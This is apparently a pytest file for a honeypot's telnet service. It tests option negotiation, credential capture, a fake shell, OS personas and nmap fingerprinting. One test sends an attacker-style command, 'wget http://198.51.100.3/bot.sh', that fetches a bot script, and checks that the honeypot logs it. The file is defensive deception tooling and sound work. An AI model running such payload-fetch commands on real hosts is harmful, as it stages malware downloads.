"""The telnet service driven by an IAC-aware client: negotiation, login capture, the fake shell, personas."""

from __future__ import annotations

import pytest

from decnet.services.telnet import TelnetService
from tests.decnet.services.smtp.support import nmap_service, persona, running

from .client import DO, NAWS, TTYPE, WILL, TelnetClient

LINUX_FIRST = bytes((255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39))


async def test_linux_negotiation_login_failure_and_shell() -> None:
    async with running(TelnetService, persona("debian"), auth_fail_delay=0, users="pi:raspberry") as (
        _,
        port,
        events,
    ):
        client = await TelnetClient.connect(port, term="vt100")
        assert await client.read_until(rb"mail01 login: $") == b"Debian GNU/Linux 12\r\nmail01 login: "
        assert bytes(client.raw).startswith(LINUX_FIRST)
        assert (WILL, 1) in client.options and (WILL, 3) in client.options and (DO, NAWS) in client.options
        await client.line("root")
        assert await client.read_until(rb"Password: $") == b"root\r\nPassword: "
        await client.line("admin123")
        assert await client.read_until(rb"login: $") == b"\r\n\r\nLogin incorrect\r\nmail01 login: "
        await client.line("pi")
        await client.read_until(rb"Password: $")
        await client.line("raspberry")
        await client.read_until(rb"pi@mail01:~\$ $")
        await client.line("uname -a; id")
        out = await client.read_until(rb"pi@mail01:~\$ $")
        assert b"Linux mail01 6.1.0-18-amd64" in out and b"uid=1000(pi)" in out
        await client.line("wget http://198.51.100.3/bot.sh")
        await client.read_until(rb"\$ $", timeout=10)
        await client.line("exit")
        await client.read_until(rb"logout")
        client.close()
        await events.wait("disconnect")
    auths = events.of("auth")
    assert [(a.fields["username"], a.fields["password"], a.fields["result"]) for a in auths] == [
        ("root", "admin123", "failure"),
        ("pi", "raspberry", "success"),
    ]
    assert auths[0].fields["secret_kind"] == "plaintext" and auths[0].fields["method"] == "password"
    commands = [e.fields["command"] for e in events.of("command")]
    assert commands[:2] == ["uname -a; id", "wget http://198.51.100.3/bot.sh"]
    assert events.of("download")[0].fields["url"] == "http://198.51.100.3/bot.sh"
    assert events.of("session")[0].fields["term"] == "vt100"
    assert events.of("disconnect")[0].fields["reason"] == "logout"


async def test_too_many_failures_disconnect() -> None:
    async with running(TelnetService, persona("ubuntu22"), auth_fail_delay=0, max_auth_tries=2) as (
        _,
        port,
        events,
    ):
        client = await TelnetClient.connect(port)
        assert (await client.read_until(rb"login: $")).startswith(b"Ubuntu 22.04.4 LTS\r\n")
        for user in ("admin", "support"):
            await client.line(user)
            await client.read_until(rb"Password: $")
            await client.line("1234")
        await client.read_until(rb"Login incorrect\r\n$")
        await client.closed()
        await events.wait("disconnect")
    assert events.of("disconnect")[0].fields["reason"] == "too_many_failures"
    assert len(events.of("auth")) == 2


@pytest.mark.parametrize(
    ("kind", "prompt", "after"),
    [
        ("windows", rb"login: $", rb"C:\\Users\\admin>$"),
        ("cisco", rb"Username: $", rb"sw-core-01>$"),
    ],
)
async def test_windows_and_cisco_personas(kind: str, prompt: bytes, after: bytes) -> None:
    async with running(TelnetService, persona(kind), auth_fail_delay=0, users="admin:admin") as (
        _,
        port,
        events,
    ):
        client = await TelnetClient.connect(port)
        greeting = await client.read_until(prompt)
        await client.line("admin")
        await client.read_until(rb"[Pp]assword: $")
        await client.line("admin")
        await client.read_until(after)
        client.close()
        await events.wait("disconnect")
    if kind == "cisco":
        assert greeting == b"\r\n\r\nUser Access Verification\r\n\r\nUsername: "
        assert bytes(client.raw).startswith(
            bytes((255, 251, 1, 255, 251, 3, 255, 253, TTYPE, 255, 253, NAWS))
        )
    else:
        assert greeting == b"Welcome to Microsoft Telnet Service \r\n\n\rlogin: "
    assert events.of("auth")[0].fields["result"] == "success"


@pytest.mark.parametrize(("kind", "product"), [("debian", "Linux telnetd"), ("cisco", "Cisco")])
async def test_nmap_identifies_the_product(kind: str, product: str) -> None:
    async with running(TelnetService, persona(kind)) as (_, port, _events):
        found = await nmap_service(port)
    assert product in found and "python" not in found.lower(), found


async def test_ctrl_c_interrupts_a_running_command() -> None:
    async with running(TelnetService, persona("ubuntu22"), users="root:toor") as (_, port, events):
        client = await TelnetClient.connect(port)
        await client.read_until(rb"login: $")
        await client.line("root")
        await client.read_until(rb"Password: $")
        await client.line("toor")
        await client.read_until(rb"root@mail01:~# $")
        await client.line("sleep 30")
        client.writer.write(bytes((255, 244)))  # IAC IP, what a line-mode client sends for Ctrl-C
        await client.writer.drain()
        assert (
            await client.read_until(rb"root@mail01:~# $", timeout=3) == b"sleep 30\r\n^C\r\nroot@mail01:~# "
        )
        await client.line("echo $?")
        assert (await client.read_until(rb"# $")).startswith(b"echo $?\r\n130\r\n")
        client.close()
        await events.wait("disconnect")
    assert [e.fields["command"] for e in events.of("command")][:2] == ["sleep 30", "echo $?"]
